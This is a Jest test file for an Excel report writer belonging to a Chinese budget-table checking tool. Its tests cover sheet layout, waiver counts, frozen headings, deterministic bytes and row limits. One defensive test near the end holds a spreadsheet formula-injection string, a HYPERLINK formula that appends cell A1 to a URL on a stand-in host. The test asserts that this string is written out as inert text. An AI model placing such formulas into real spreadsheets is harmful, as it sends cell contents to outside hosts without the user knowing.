import ExcelJS from "exceljs";
import { xlsxWriter } from "../../src/cli/check/xlsx-writer";
import type { FileJson } from "../../src/core/report/json";
import type { Closing } from "../../src/core/report/report-writer";
import { mostRows } from "../../src/core/report/sheets";
import { addFile, noTotals } from "../../src/core/report/totals";
import { hostileTexts } from "../core/report/hostile";
import {
  brokenFile,
  hostileFile,
  sampleAcross,
  sampleClosing,
  sampleFile,
  sampleFinding,
  sampleTable,
  sampleWaiverProblem,
} from "../core/report/sample-files";

const facts = { version: "1.2.3", profile: "hebei-county", ruleSet: "core-1", files: 1 };

function workbookOf(files: readonly FileJson[], closing: Partial<Closing> = {}): Uint8Array {
  const writer = xlsxWriter(facts, "zh");
  for (const file of files) writer.file(file);
  const bytes = writer.end(files.reduce(addFile, noTotals), { ...sampleClosing, ...closing });
  if (typeof bytes === "string") throw new Error("a workbook is no text");
  return bytes;
}

/** As another program reads it. */
async function opened(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Uint8Array.from(bytes).buffer);
  return workbook;
}

function rowsOf(workbook: ExcelJS.Workbook, name: string): unknown[][] {
  const rows: unknown[][] = [];
  workbook.getWorksheet(name)?.eachRow((row) => {
    rows.push(Array.isArray(row.values) ? row.values.slice(1) : []);
  });
  return rows;
}

test("five sheets: the summary, by department, by rule, every finding, what could not be read", async () => {
  const other = sampleFile({ path: "二.xlsx", tables: [sampleTable({ department: null })], findings: [] });
  const workbook = await opened(workbookOf([sampleFile(), other, brokenFile], { across: [sampleAcross()] }));
  expect(workbook.worksheets.map(({ name }) => name)).toEqual([
    "汇总",
    "按单位",
    "按规则",
    "问题清单",
    "未能读取的文件",
  ]);
  expect(rowsOf(workbook, "汇总").slice(1, 8)).toEqual([
    ["工作簿", 3],
    ["表", 2],
    ["指标", 2],
    ["单位", 1],
    ["错误", 1],
    ["提醒", 0],
    ["建议", 0],
  ]);
  expect(rowsOf(workbook, "按单位").slice(1)).toEqual([
    ["766001某某局本级", 1, 1, 1, 1, 0, 0],
    ["未写单位", 1, 1, 1, 0, 0, 0],
  ]);
  expect(rowsOf(workbook, "按规则").slice(1)).toEqual([["C06", "没有计量单位", "✖ 错误", 1, 1]]);
  const [, between, found] = rowsOf(workbook, "问题清单");
  expect(between?.slice(2, 8)).toEqual(["预算/二.xlsx", "防汛项目", "目标表", "B3", "错误", "F12"]);
  expect(found).toEqual([
    2,
    "766001某某局本级",
    "预算/一.xlsx",
    "防汛项目",
    "目标表",
    "E12",
    "错误",
    "C06",
    "没有计量单位",
    "≥90",
    "“≥90”缺少单位",
    "补上单位",
    "改为“≥90%”",
  ]);
  expect(rowsOf(workbook, "未能读取的文件").slice(1)).toEqual([["坏.xlsx", "文件不完整。"]]);
});

test("a waiver that covers nothing is counted, and stands last in the list", async () => {
  const waived = { ...sampleFinding(), reason: "附件里有", date: "", waiver: { sheet: "校验说明", row: 2 } };
  const file = sampleFile({ waived: [waived], waiverProblems: [sampleWaiverProblem()] });
  const workbook = await opened(workbookOf([file]));
  expect(rowsOf(workbook, "汇总").flat().join()).toContain("“校验说明”有 1 行不起作用");
  expect(rowsOf(workbook, "问题清单").map((row) => [row[5], row[6], row[10]])).toEqual([
    ["单元格", "级别", "问题"],
    ["E12", "错误", "“≥90”缺少单位"],
    ["E12", "已忽略", "“≥90”缺少单位"],
    ["A3", "说明无效", "规则 C06 的说明已失效。"],
  ]);
});

test("what was waived beyond the room for it is not left out without a word", async () => {
  const waived = { ...sampleFinding(), reason: "有", date: "", waiver: { sheet: "校验说明", row: 2 } };
  const file = sampleFile({ waived: Array.from({ length: 5003 }, () => waived) });
  const workbook = await opened(workbookOf([file]));
  expect(rowsOf(workbook, "汇总").flat().join()).toContain("其余 3 条没有列出");
});

test("a list keeps its heading in view and can be filtered by it", async () => {
  const workbook = await opened(workbookOf([sampleFile()]));
  const list = workbook.getWorksheet("问题清单");
  expect(list?.views[0]).toMatchObject({ state: "frozen", ySplit: 1, topLeftCell: "A2" });
  expect(list?.autoFilter).toBe("A1:M2");
  expect(list?.pageSetup.printTitlesRow).toBe("1:1");
});

test("the same files give the same bytes", () => {
  const files = [sampleFile(), brokenFile];
  expect(workbookOf(files, { durationMs: 999 })).toEqual(workbookOf(files));
});

test("no text of a workbook becomes a formula, a link or a number", async () => {
  const workbook = await opened(workbookOf(hostileTexts.map(hostileFile)));
  let formulas = 0;
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => row.eachCell((cell) => (formulas += cell.type === ExcelJS.ValueType.Formula ? 1 : 0)));
  }
  expect(formulas).toBe(0);
  expect(rowsOf(workbook, "问题清单").flat()).toContain('=HYPERLINK("http://example.invalid/?"&A1,"看这里")');
});

test("what has no room on a sheet is counted and said", async () => {
  const findings = Array.from({ length: mostRows + 7 }, () => sampleFinding({ severity: "hint" }));
  const workbook = await opened(workbookOf([sampleFile({ findings })]));
  expect(workbook.getWorksheet("问题清单")?.rowCount).toBe(mostRows + 2);
  expect(rowsOf(workbook, "问题清单").at(-1)?.[0]).toContain("还有 7 个没有列出");
  expect(rowsOf(workbook, "汇总").flat().join()).toContain("其余 7 条没有列出");
});
